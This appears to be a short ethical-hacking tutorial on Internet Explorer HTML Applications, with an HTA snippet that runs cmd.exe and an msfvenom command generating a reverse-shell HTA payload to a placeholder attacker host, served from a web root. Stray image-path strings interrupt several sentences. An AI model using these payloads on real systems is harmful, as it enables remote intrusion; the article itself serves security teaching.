Skip to main content

Leveraging HTML Applications (IE)

In the world of ethical hacking, it's essential to stay updated on various tools and techniques that can be used for legitimate security testing and analysis. HTML Applications (HTAs) are one such resource that can be leveraged for various purposes, including launching commands, generating payloads, and testing security controls. In this article, we'll explore the use of HTAs and demonstrate their potential in ethical hacking scenarios.

Understanding HTML Applications (HTAs)
HTML Applications, often denoted by the .hta file extension, are a type of file that InternetExplorer (IE) automatically interprets as an executable HTML application. These files have the ability to interact with the Windows operating system and can be employed for a range of purposes, including executing commands and scripting.

Launching a Command Prompt with HTA
To begin our exploration, let's take a look at a practical example of using an HTA to launch the Windows command prompt (cmd.exe). Below is a modified code snippet that demonstrates this concept:

<!-- modified_poc.hta -->


var command = 'cmd.exe';
new ActiveXObject('WScript.Shell').Run(command);


In this code, we've changed the variable name from c to command for better readability and maintainability. The HTA still serves itspurpose of launching the command prompt.

Generating an HTA Payload
HTAs can also be used to generate payloads for various security testing scenarios. Below is a modified example of generating an HTA payload with the Metasploit Framework:

sudo msfvenom -p windows/shell_reverse_tcp LHOST=<ATTACKER IP>
LPORT=<ATTACKER PORT> -f hta-psh -o /var/www/html/malware.htaThis payload can be hosted on a webserver and used for testing security controls or demonstrating potential vulnerabilities.